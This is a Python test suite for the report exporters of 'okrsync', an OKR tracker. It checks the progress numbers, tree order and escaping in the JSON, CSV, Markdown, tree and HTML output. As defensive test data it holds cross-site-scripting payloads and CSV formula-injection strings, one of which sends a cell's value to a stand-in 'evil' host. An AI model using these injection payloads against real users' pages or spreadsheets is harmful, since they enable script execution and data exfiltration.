"""Every report format shows the roll-up's numbers, the whole tree, and nothing a title could inject."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
from reportkit import AS_OF, HOSTILE, Q4, hand_history, pct_text, scored_tree, stored_snapshot

from okrsync.core.rollup import ScoredTree
from okrsync.core.stored_tree import SCHEMA
from okrsync.daemon.status_page import render_status_page
from okrsync.domain.model import Health
from okrsync.report.csv_export import COLUMNS, render_csv
from okrsync.report.html import COLOURS, render_html, trend_svg
from okrsync.report.html_style import CSS
from okrsync.report.json_export import render_json
from okrsync.report.markdown import md, render_markdown
from okrsync.report.outline import (
    HEALTH_ORDER,
    StoredTreeError,
    TrendPoint,
    check_stored_tree,
    outline,
    walk,
)
from okrsync.report.page import FILTERS_JS
from okrsync.report.tree import HEALTH_STYLE, render_stored_tree, render_tree

SCORED = scored_tree()
DOC = stored_snapshot(SCORED)
POINTS, HISTORY = hand_history()


def every_node(scored: ScoredTree) -> list[tuple[str, str, float | None]]:
    """(kind, id, progress share) of every KR and objective, straight from the roll-up."""
    return [("key_result", k, s.progress) for k, s in scored.key_results.items()] + [
        ("objective", k, s.progress) for k, s in scored.objectives.items()
    ]


def test_the_hand_built_tree_has_the_numbers_the_tests_rely_on() -> None:
    # 2 of 12 issues done; 6 of 12 points; (800-520)/(800-300); objectives are weighted means
    assert pct_text(SCORED.kr("MOB-1").progress) == "16.7 %"
    assert pct_text(SCORED.kr("MOB-2").progress) == "50.0 %"
    assert pct_text(SCORED.kr("PERF").progress) == "56.0 %"
    assert pct_text(SCORED.objective("MOB-O").progress) == "33.3 %"
    assert pct_text(SCORED.objective("ENG").progress) == "40.9 %"  # (56 + 2 × 33.3) / 3
    assert SCORED.kr("WEB-4").progress is None
    assert pct_text(SCORED.kr("MOB-1").expected) == "62.0 %"


# ------------------------------------------------------------------------------------------- JSON

OBJECTIVE_KEYS = {
    "id", "title", "level", "owner", "aligns_to", "weight", "jira_key",
    "progress", "expected", "health", "score", "explanation",
}  # fmt: skip
KR_KEYS = {
    "id", "objective", "title", "measure", "owner", "due", "weight", "jira_key", "progress",
    "expected", "health", "score", "overachievement", "explanation", "warnings", "action_plans",
    "source", "source_error", "stale_since",
}  # fmt: skip
PLAN_KEYS = {"key", "summary", "status", "status_category", "cancelled", "points", "owner", "due"}


def test_json_is_the_documented_snapshot_plus_history_last_sync_and_coverage() -> None:
    out = json.loads(render_json(DOC, HISTORY))
    assert set(out) == {
        "schema",
        "period",
        "as_of",
        "objectives",
        "key_results",
        "warnings",
        "history",
        "last_sync",
        "coverage",
    }
    assert out["schema"] == SCHEMA == "okrsync.tree/1"
    assert out["period"] == {"name": "2026-Q4", "start": "2026-10-01", "end": "2026-12-31"}
    assert out["as_of"] == "2026-11-26"
    assert out["last_sync"] is None and out["coverage"] is None
    for obj in out["objectives"]:
        assert set(obj) == OBJECTIVE_KEYS
    for kr in out["key_results"]:
        assert set(kr) == KR_KEYS
        for plan in kr["action_plans"]:
            assert set(plan) == PLAN_KEYS
    # the snapshot part is the snapshot, unchanged
    assert {k: out[k] for k in DOC} == DOC
    by_id = {n["id"]: n for n in out["objectives"] + out["key_results"]}
    for _, node_id, share in every_node(SCORED):
        expected = None if share is None else round(share * 100, 1)
        assert by_id[node_id]["progress"] == expected, node_id
    # history: 4 days per node, percentages like the snapshot
    mob1 = out["history"]["MOB-1"]
    assert [p["day"] for p in mob1] == ["2026-10-29", "2026-11-05", "2026-11-12", "2026-11-19"]
    assert set(mob1[0]) == {"day", "progress", "expected", "health"}
    assert mob1[-1]["progress"] == round(SCORED.kr("MOB-1").progress * 100 * 4 / 5, 1)  # type: ignore[operator]
    assert mob1[-1]["expected"] == round(Q4.elapsed_share(date(2026, 11, 19)) * 100, 1)


# -------------------------------------------------------------------------------------------- CSV

DOCUMENTED_COLUMNS = [
    "kind", "level", "depth", "id", "parent", "title", "owner", "measure", "weight", "points",
    "progress", "expected", "health", "score", "status", "cancelled", "due", "jira_key",
    "stale_since", "source_error", "confidence", "checkin_day", "checkin_note", "checkin_author",
    "resolved", "aligned", "coverage",
]  # fmt: skip


def test_csv_has_the_documented_columns_one_row_per_node_and_the_roll_up_numbers() -> None:
    text = render_csv(DOC)
    assert text.startswith(",".join(DOCUMENTED_COLUMNS) + "\r\n")
    assert list(COLUMNS) == DOCUMENTED_COLUMNS
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    plans = sum(len(kr.action_plans) for kr in SCORED.tree.key_results)
    assert len(rows) == len(SCORED.objectives) + len(SCORED.key_results) + plans
    by_id = {(r["kind"], r["id"]): r for r in rows}
    for kind, node_id, share in every_node(SCORED):
        row = by_id[(kind, node_id)]
        assert row["progress"] == ("" if share is None else str(round(share * 100, 1))), node_id
        assert row["expected"] == "62.0"
    assert by_id[("key_result", "MOB-1")]["health"] == "off_track"
    assert by_id[("key_result", "MOB-1")]["parent"] == "MOB-O"
    assert by_id[("objective", "MOB-O")]["parent"] == "ENG"
    assert by_id[("objective", "MOB-O")]["depth"] == "2"
    assert by_id[("objective", "CO-1")]["parent"] == ""
    # every parent is a row before its children; action plans point at their KR
    seen: set[str] = set()
    for row in rows:
        assert row["parent"] == "" or row["parent"] in seen, row
        seen.add(row["id"])
    cancelled = by_id[("action_plan", "MR-16")]
    assert (cancelled["parent"], cancelled["cancelled"], cancelled["status"]) == ("MOB-2", "true", "To Do")
    # the hostile title survives as data, quoted
    assert by_id[("key_result", "WEB-3")]["title"] == HOSTILE


# ------------------------------------------------------------------------------------------- tree


def test_tree_shows_every_objective_kr_and_action_plan_with_the_roll_up_numbers() -> None:
    from rich.console import Console

    console = Console(width=200, no_color=True, record=True)
    console.print(render_stored_tree(DOC, action_plans=True))
    text = console.export_text()
    lines = text.splitlines()
    for kind, node_id, share in every_node(SCORED):
        label = f"KR {node_id} " if kind == "key_result" else f"{node_id} "
        line = next(ln for ln in lines if label in ln and ("KR " in ln) == (kind == "key_result"))
        assert pct_text(share).replace(" %", "%").replace("–", "  –  ").strip() in line, (node_id, line)
    assert "MOB-10 [Done] Task 1 of MOB" in text
    # the ScoredTree entry point draws the same
    console2 = Console(width=200, no_color=True, record=True)
    console2.print(render_tree(SCORED, action_plans=True))
    assert console2.export_text() == text


# --------------------------------------------------------------------------------------- Markdown


def _table_rows(text: str) -> dict[str, list[str]]:
    rows = {}
    for line in text.splitlines():
        if line.startswith("| **"):
            cells = [c.strip() for c in re.split(r"(?<!\\)\|", line)[1:-1]]
            rows[re.match(r"\*\*(.+?)\*\*", cells[0]).group(1)] = cells  # type: ignore[union-attr]
    return rows


def test_markdown_has_the_tree_as_nested_headings_and_the_numbers_in_kr_tables() -> None:
    text = render_markdown(DOC)
    headings = [line for line in text.splitlines() if line.startswith("#")]
    assert headings[:6] == [
        "# OKRs 2026-Q4",
        "## Health",
        "## CO-1 · Delight customers",
        "### ENG · Engineering ships reliably",
        "#### MOB-O · A mobile app customers rave about",
        "## CO-2 · Grow revenue",
    ]
    rows = _table_rows(text)
    assert set(rows) == set(SCORED.key_results)
    for kr_id, s in SCORED.key_results.items():
        cells = rows[kr_id]
        assert len(cells) == 7, cells  # a | in a title does not split the row
        assert cells[3] == pct_text(s.progress), kr_id
        assert cells[4] == "62.0 %"
        assert cells[5] == s.health.label
    for obj_id, s in SCORED.objectives.items():
        assert f"**{pct_text(s.progress)}** (expected 62.0 %) · {s.health.label}" in text, obj_id
    # health summary: counts by health
    assert "| Key results | 1 | 1 | 1 | 1 | 0 | 0 | 1 | 5 |" in text  # ... off track, overdue, not started
    # action plans as a task list
    assert "  - [x] MOB-10 Task 1 of MOB (Done) · " not in text  # no owner on even tasks
    assert "  - [x] MOB-10 Task 1 of MOB (Done)\n" in text
    assert "  - [ ] MOB-13 Task 4 of MOB (In Progress) · Dana Lee\n" in text
    assert "~~MR-16 Task 7 of MR (To Do)~~ cancelled" in text


def test_markdown_escapes_a_hostile_title() -> None:
    text = render_markdown(DOC)
    assert "<script" not in text and "<img" not in text
    assert "&lt;script&gt;" in text
    assert "\\[link\\](javascript:x)" in text
    assert md("a|b *c* _d_ [e]") == "a\\|b \\*c\\* \\_d\\_ \\[e\\]"
    assert md("line\nbreak") == "line break"


# ------------------------------------------------------------------------------------------- HTML


class _Dom(HTMLParser):
    """Just enough of a DOM: KR rows' cell texts, hrefs/srcs, tags seen."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.urls: list[str] = []
        self.cells: dict[str, list[str]] = {}
        self._row: str | None = None
        self._text: list[str] | None = None
        self.sections: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        self.tags.append(tag)
        self.urls += [v or "" for k, v in attrs if k in ("href", "src", "xlink:href", "action")]
        if tag == "tr" and "kr" in (a.get("class") or "").split():
            self._row = a.get("id")
            self.cells[self._row or ""] = []
        if tag == "td" and self._row:
            self._text = []
        if tag == "section" and "objective" in (a.get("class") or ""):
            self.sections.append(a.get("data-id") or "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "td" and self._row and self._text is not None:
            self.cells[self._row].append(" ".join("".join(self._text).split()))
            self._text = None
        if tag == "tr":
            self._row = None

    def handle_data(self, data: str) -> None:
        if self._text is not None:
            self._text.append(data)


def test_html_shows_the_roll_up_numbers_the_tree_charts_and_a_health_summary() -> None:
    page = render_html(DOC, HISTORY)
    dom = _Dom()
    dom.feed(page)
    assert dom.sections == [n.id for n in walk(outline(DOC))]
    assert [n.id for n in walk(outline(DOC))] == ["CO-1", "ENG", "MOB-O", "CO-2", "WEB-O", "EMPTY"]
    for kr_id, s in SCORED.key_results.items():
        cells = dom.cells[f"kr-{kr_id}"]
        # key result | bar | now | expected | health | score
        assert cells[2] == pct_text(s.progress), kr_id
        assert cells[3] == "62.0 %"
        assert cells[4] == s.health.label
    for obj_id, s in SCORED.objectives.items():
        m = re.search(
            rf'data-id="{re.escape(obj_id)}".*?<b class="progress">([^<]*)</b>', page, flags=re.DOTALL
        )
        assert m and m.group(1) == pct_text(s.progress), obj_id
    # one trend chart per objective, with a line through the history and today's point
    assert page.count('<svg class="trend"') == len(SCORED.objectives)
    with_data = [k for k, s in SCORED.objectives.items() if s.progress is not None]
    assert len(with_data) == 5  # all but EMPTY
    assert dom.tags.count("polyline") == len(with_data)
    assert page.count('<circle class="now"') == len(with_data)
    assert page.count(">no data</text>") == 1
    # health summary: counts by health, for KRs and objectives
    assert re.search(r'data-health="off_track">.*?Off track <b class="count">1</b>', page)
    assert '<b class="count">3</b>' in page  # 3 objectives off track: CO-1, ENG, MOB-O
    # action plans in collapsible details
    assert page.count('<details class="aps">') == sum(1 for kr in SCORED.tree.key_results if kr.action_plans)
    assert "12 action plans · 2 done" in page


def test_html_is_self_contained_and_escapes_every_user_string() -> None:
    page = render_html(DOC, HISTORY)
    dom = _Dom()
    dom.feed(page)
    assert "http://" not in page and "https://" not in page
    assert all(u.startswith("#") for u in dom.urls), dom.urls
    assert not {"link", "img", "iframe", "object", "embed"} & set(dom.tags)
    # one script: the filters' own, inline (no src), with no value of the tree in it
    assert dom.tags.count("script") == 1 and "<script src" not in page
    script = page.split("<script>", 1)[1].split("</script>", 1)[0]
    assert script == FILTERS_JS and "alert" not in script
    assert "@import" not in page and "url(" not in page
    # objective, KR, owner (markupsafe writes a quote as &#34;, the SVG's html.escape as &quot;)
    assert (
        len(re.findall(r"&lt;script&gt;alert\((?:&#34;|&quot;)x(?:&#34;|&quot;)\)&lt;/script&gt;", page)) >= 3
    )
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_trend_chart_draws_progress_against_expected_and_breaks_on_missing_data() -> None:
    points = [
        TrendPoint(date(2026, 10, 10), 10.0, 10.9, "on_track"),
        TrendPoint(date(2026, 10, 20), None, 21.7, "no_data"),
        TrendPoint(date(2026, 11, 1), 30.0, 34.8, "on_track"),
        TrendPoint(date(2026, 11, 10), 35.0, 44.6, "at_risk"),
    ]
    svg = trend_svg(points, Q4, date(2026, 11, 10), Health.AT_RISK, "MOB-O <x>")
    assert svg.count("<polyline") == 1  # the lone first point stands alone; then one line of two days
    assert '<line class="expected"' in svg
    assert '<circle class="now"' in svg and "35.0 %" in svg
    assert "MOB-O &lt;x&gt;" in svg
    for label in ("Oct 1", "Nov 1", "Dec 1"):
        assert f">{label}</text>" in svg
    # x positions: the period's first day at the left edge, the last at the right edge
    assert re.search(r'<line class="expected" x1="34" y1="[\d.]+" x2="368" y2="10"', svg)
    empty = trend_svg([TrendPoint(AS_OF, None, 62.0, "no_data")], Q4, AS_OF, Health.NO_DATA, "E")
    assert "no data" in empty and "<polyline" not in empty


# ----------------------------------------------------------------------------------- edge cases


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        (None, "no sync has run yet: run okrsync sync first"),
        ({"schema": "okrsync.tree/0"}, "okrsync.tree/0"),
        ([1, 2], "list"),
        ({"schema": SCHEMA, "period": {}}, "lacks as_of, objectives, key_results"),
    ],
)
def test_a_missing_or_foreign_snapshot_is_a_clear_error(doc: Any, message: str) -> None:
    with pytest.raises(StoredTreeError, match=re.escape(message)):
        check_stored_tree(doc)


def test_an_alignment_cycle_loses_no_objective_in_any_format() -> None:
    doc = json.loads(json.dumps(DOC))
    for obj in doc["objectives"]:
        if obj["id"] == "CO-2":
            obj["aligns_to"] = "EMPTY"  # CO-2 -> EMPTY -> CO-2
    ids = [n.id for n in walk(outline(doc))]
    assert sorted(ids) == sorted(o["id"] for o in doc["objectives"])
    assert len([r for r in csv.DictReader(io.StringIO(render_csv(doc))) if r["kind"] == "objective"]) == 6
    assert "WEB-O · " in render_markdown(doc)
    assert 'data-id="EMPTY"' in render_html(doc)


def test_an_empty_tree_still_renders() -> None:
    doc = {**DOC, "objectives": [], "key_results": [], "warnings": ["no objectives configured"]}
    assert render_csv(doc).strip() == ",".join(COLUMNS)
    assert "no objectives configured" in render_markdown(doc)
    page = render_html(doc)
    assert "<main>" in page and "no objectives configured" in page


@pytest.mark.parametrize("title", ['=HYPERLINK("https://evil/?"&A1,"x")', "+1+1", "-2", "@SUM(A1)", "\tx"])
def test_csv_cells_cannot_carry_spreadsheet_formulas(title: str) -> None:
    doc = json.loads(json.dumps(DOC))
    doc["key_results"][0]["title"] = title
    doc["key_results"][0]["action_plans"][0]["summary"] = title
    rows = list(csv.DictReader(io.StringIO(render_csv(doc))))
    titles = [r["title"] for r in rows if r["title"].lstrip("'") == title]
    assert len(titles) == 2 and all(t == "'" + title for t in titles)
    numbers = [r["progress"] for r in rows if r["kind"] == "key_result"]
    assert all(not n.startswith("'") for n in numbers)  # numbers stay numbers


# ---------------------------------------------------------------------------------------- overdue


def test_an_overdue_kr_is_overdue_in_every_format_and_the_status_page() -> None:
    """MOB-1 (due 2026-12-18, 16.7 %) three days past its due day: Overdue everywhere, with its own
    colour, between Off track and Not started; the KRs due at the period's end are not overdue."""
    from rich.console import Console

    due = next(kr.due for kr in SCORED.tree.key_results if kr.id == "MOB-1")
    assert due is not None
    late = scored_tree(due + timedelta(days=3))
    doc = stored_snapshot(late)
    healths = {kr["id"]: kr["health"] for kr in doc["key_results"]}
    assert healths["MOB-1"] == "overdue"
    assert healths["MOB-2"] != "overdue" and healths["PERF"] != "overdue"  # due at the period's end
    assert HEALTH_ORDER.index(Health.OFF_TRACK) + 1 == HEALTH_ORDER.index(Health.OVERDUE)
    assert HEALTH_ORDER.index(Health.OVERDUE) + 1 == HEALTH_ORDER.index(Health.NOT_STARTED)
    # a colour of its own in each face
    assert Health.OVERDUE in HEALTH_STYLE and HEALTH_STYLE[Health.OVERDUE] not in (
        s for h, s in HEALTH_STYLE.items() if h != Health.OVERDUE
    )
    assert COLOURS[Health.OVERDUE] not in (c for h, c in COLOURS.items() if h != Health.OVERDUE)
    assert ".h-overdue {" in CSS

    by_id = {kr["id"]: kr for kr in json.loads(render_json(doc))["key_results"]}
    assert by_id["MOB-1"]["health"] == "overdue"
    rows = {(r["kind"], r["id"]): r for r in csv.DictReader(io.StringIO(render_csv(doc), newline=""))}
    assert rows[("key_result", "MOB-1")]["health"] == "overdue"

    console = Console(width=200, no_color=True, record=True)
    console.print(render_stored_tree(doc))
    line = next(ln for ln in console.export_text().splitlines() if "KR MOB-1 " in ln)
    assert "16.7% (expected" in line and "Overdue  @Carla Diaz" in line

    text = render_markdown(doc)
    assert _table_rows(text)["MOB-1"][5] == "Overdue"
    assert "| | Done | On track | At risk | Off track | Overdue | Not started | No data | Total |" in text

    page = render_html(doc)
    dom = _Dom()
    dom.feed(page)
    assert dom.cells["kr-MOB-1"][4] == "Overdue"
    assert '<span class="badge h-overdue">Overdue</span>' in page
    assert re.search(r'data-health="overdue">.*?Overdue <b class="count">1</b>', page)
    attention = page.split('<div class="attention">', 1)[1].split("</div>", 1)[0]
    assert attention.index("MOB-1") < attention.index("MOB-2")  # overdue first, then off track, at risk

    status = render_status_page(doc, [], {}, now=datetime(2026, 12, 21, 12, 0))
    assert CSS in status  # the report's stylesheet, colours and all
    assert '<span class="badge h-overdue">Overdue</span>' in status
    assert '<span class="due late">due 2026-12-18 — Overdue</span>' in status
    assert 'data-health="overdue" data-kr="MOB-1"' in status
